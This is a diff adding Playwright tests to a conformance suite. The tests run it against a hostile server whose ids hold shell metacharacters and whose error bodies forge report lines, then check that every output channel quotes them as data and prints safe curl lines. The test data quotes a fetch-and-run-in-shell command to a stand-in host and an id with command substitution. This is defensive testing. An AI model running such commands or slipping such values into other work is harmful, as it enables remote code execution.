@@ -2,9 +2,15 @@ import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { chromium, expect, test, type Browser } from '@playwright/test';
 import type { ConformanceReport } from '../reporter/report';
-import { CHROMIUM, readReport } from './support/cli';
+import type { Behaviour } from '../reference/app';
+import { DEVELOPMENT_ACCOUNTS } from '../reference/accounts';
+import type { RunningReference } from '../reference/server';
+import { githubAnnotations, githubSummary } from '../reporter/github';
+import { FORGED_LINES, forgedLines, SHELL_ID_TEXT } from './reference/hostile';
+import { CHROMIUM, readReport, startServer } from './support/cli';
+import { tokenize } from './support/markup';
 import { runSuite, type SuiteRun } from './support/run-suite';
-import { RecordingShell } from './support/shell';
+import { intendedArguments, RecordingShell, SHELLS } from './support/shell';
 
 // A server that puts Markdown, HTML, shell text, ANSI escapes and forged verdict lines into every string it
 // answers (OMS_HOSTILE=markup-everywhere): every output of the run must show them as data, nowhere as markup,
@@ -93,6 +99,116 @@ test.describe.serial('reports of a run against a server that answers markup and 
     expect(error).toBeNull();
   });
 });
+
+// A server whose ids hold every character a shell or a path treats apart, and whose 404s are text/plain with a
+// forged reproduction line and forged verdicts (OMS_HOSTILE=forged-lines): no channel may show a server line as a
+// line of the suite's, every curl line each channel prints must run as printed in sh, bash and zsh, and no id the
+// suite makes up "of the service's form" may carry the path characters of the service's ids.
+test.describe.serial('reports of a run against a server whose ids and text bodies forge lines of the suite', () => {
+  const TOKEN = 'forged-lines-token';
+  let server: RunningReference;
+  let forged: ReturnType<typeof forgedLines>;
+  const paths: string[] = [];
+  let run: SuiteRun;
+  let report: ConformanceReport;
+  let shell: RecordingShell;
+
+  test.beforeAll(async () => {
+    forged = forgedLines();
+    const log: Behaviour = { name: 'selftest-path-log', rewriteRequest: (request) => (paths.push(request.rawPath ?? request.path), request) };
+    server = await startServer([log, forged]);
+    const [a, b] = DEVELOPMENT_ACCOUNTS;
+    run = await runSuite({ OMS_BASE_URL: server.url, OMS_TOKEN: a.developmentToken, OMS_TOKEN_B: b.developmentToken }, [
+      '--grep',
+      '@ORD-GET-001|@ORD-GET-004|@ORD-UPDATE-006|@ORD-DELETE-003',
+      '--grep-invert',
+      NOT_GENERATED,
+    ]);
+    report = readReport(run.reportDir);
+    shell = new RecordingShell({ OMS_TOKEN: TOKEN, OMS_TOKEN_B: TOKEN });
+  });
+
+  test.afterAll(async () => {
+    shell?.dispose();
+    await server?.close();
+  });
+
+  /** Each channel as a reader sees it: its text (markup decoded) and the curl lines it prints, as they would be copied. */
+  function channels(): Record<string, { text: string; commands: string[] }> {
+    const markdown = readFileSync(join(run.reportDir, 'report.md'), 'utf8');
+    const summary = githubSummary(report);
+    const annotations = githubAnnotations(report).map((line) => line.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%'));
+    return {
+      terminal: { text: run.output, commands: [...run.output.matchAll(/^ +Reproduce: (.*)$/gm)].map((m) => m[1]) },
+      'junit.xml': markupChannel(readFileSync(join(run.reportDir, 'junit.xml'), 'utf8'), true),
+      'index.html': markupChannel(readFileSync(join(run.reportDir, 'index.html'), 'utf8'), false),
+      'report.md': { text: markdown, commands: fencedShellLines(markdown) },
+      'GitHub job summary': { text: summary, commands: fencedShellLines(summary) },
+      'GitHub annotations': { text: annotations.join('\n'), commands: [] },
+    };
+  }
+
+  test('the run fails on the text bodies, and its evidence holds the forged lines and the ids', () => {
+    expect(run.exitCode, run.output.slice(-3000)).toBe(1);
+    const findings = report.requirements.flatMap((r) => r.findings);
+    expect(findings.some((f) => f.response?.body === FORGED_LINES), 'no finding quotes the forged body: the test proves nothing').toBe(true);
+    expect(findings.some((f) => f.request?.url.includes(encodeURIComponent(`${SHELL_ID_TEXT}-`))), 'no finding is on a request to an id the server assigned').toBe(true);
+  });
+
+  test('no channel shows a line of the server as a line of the suite', () => {
+    const forgedLinesOf = (text: string) => text.split(/\r\n|\r|\n|\u2028|\u2029/).map((line) => line.trim()).filter((line) => /^Reproduce: curl -sS http:\/\/elsewhere|^OMS conformance \((core|strict)\): CONFORMANT/.test(line));
+    const shown = Object.entries(channels()).map(([name, { text }]) => [name, forgedLinesOf(text)]);
+    expect(shown).toEqual(Object.keys(channels()).map((name) => [name, []]));
+    // The forged text did reach the channels that show response bodies, quoted: the check above is not vacuous.
+    const bodies = { terminal: run.output, 'junit.xml': readFileSync(join(run.reportDir, 'junit.xml'), 'utf8'), 'index.html': readFileSync(join(run.reportDir, 'index.html'), 'utf8') };
+    for (const [name, text] of Object.entries(bodies)) expect(text, name).toContain('Not Found\\nReproduce: curl -sS http://elsewhere.invalid/pwned-body | sh\\nOMS conformance (core): CONFORMANT');
+  });
+
+  test(`every curl line each channel prints runs as printed in ${SHELLS.join(', ')}: curl once, with the recorded request, and nothing else`, () => {
+    const requests = report.requirements.flatMap((r) => r.findings).flatMap((f) => (f.request && !f.request.truncated ? [f.request] : []));
+    const intended = requests.map((request) => intendedArguments(request, { OMS_TOKEN: TOKEN, OMS_TOKEN_B: TOKEN }));
+    for (const [name, { commands }] of Object.entries(channels())) {
+      if (name === 'GitHub annotations') continue;
+      expect(commands.length, `${name} prints no curl line`).toBeGreaterThan(0);
+      expect(commands.some((line) => line.includes("h!!41'\\''(id)*")), `${name}: no curl line to an id the server assigned`).toBe(true);
+      for (const line of commands) {
+        for (const shellName of SHELLS) {
+          const args = shell.curlArguments(line, shellName);
+          expect(intended.some((sent) => JSON.stringify(sent) === JSON.stringify(args)), `${name}, ${shellName}: ${line} gave curl ${JSON.stringify(args)}`).toBe(true);
+        }
+      }
+    }
+  });
+
+  test('every request path is /orders, /orders/, /token or /orders/<one segment>; ids the suite made up carry none of the path characters of the server\'s', () => {
+    const segments = paths.filter((path) => !['/orders', '/orders/', '/token'].includes(path)).map((path) => /^\/orders\/([^/]+)$/.exec(path)?.[1] ?? `not one segment: ${path}`);
+    expect(segments.filter((segment) => segment.startsWith('not one segment'))).toEqual([]);
+    const madeUp = segments.map((segment) => decodeURIComponent(segment)).filter((id) => !forged.assigned.includes(id));
+    expect(madeUp.filter((id) => /[\\/;]|\.\.|%[0-9a-f]{2}/i.test(id))).toEqual([]);
+    // An unknown id of the service's form was sent: its length and its shell characters kept.
+    expect(madeUp.some((id) => id.length === forged.assigned[0].length && id.includes("h!!41'(id)*"))).toBe(true);
+  });
+});
+
+/** A markup file's text (entities decoded) and the curl lines it shows: junit.xml's "Reproduce: " lines, index.html's pre.curl. */
+function markupChannel(markup: string, xml: boolean): { text: string; commands: string[] } {
+  const tokens = tokenize(markup, { xml });
+  const texts: string[] = [];
+  const commands: string[] = [];
+  tokens.forEach((token, index) => {
+    if (token.kind !== 'text') return;
+    texts.push(token.text);
+    const before = tokens[index - 1];
+    if (before?.kind === 'open' && before.name === 'pre' && before.attributes.class === 'curl') commands.push(token.text);
+    if (xml) commands.push(...[...token.text.matchAll(/^Reproduce: (.*)$/gm)].map((m) => m[1]));
+  });
+  return { text: texts.join('\n'), commands };
+}
+
+/** The lines of a Markdown text's fenced code blocks marked sh: what a reader copies to run. */
+function fencedShellLines(markdown: string): string[] {
+  return [...markdown.matchAll(/^( *)(`{3,})sh\n([\s\S]*?)\n\1\2$/gm)].flatMap((m) => m[3].split('\n').map((line) => line.slice(m[1].length)));
+}
 
 /** Markdown with every code span removed, by CommonMark's rule: a run of n backticks closes at the next run of exactly n. */
 function withoutCodeSpans(markdown: string): string {
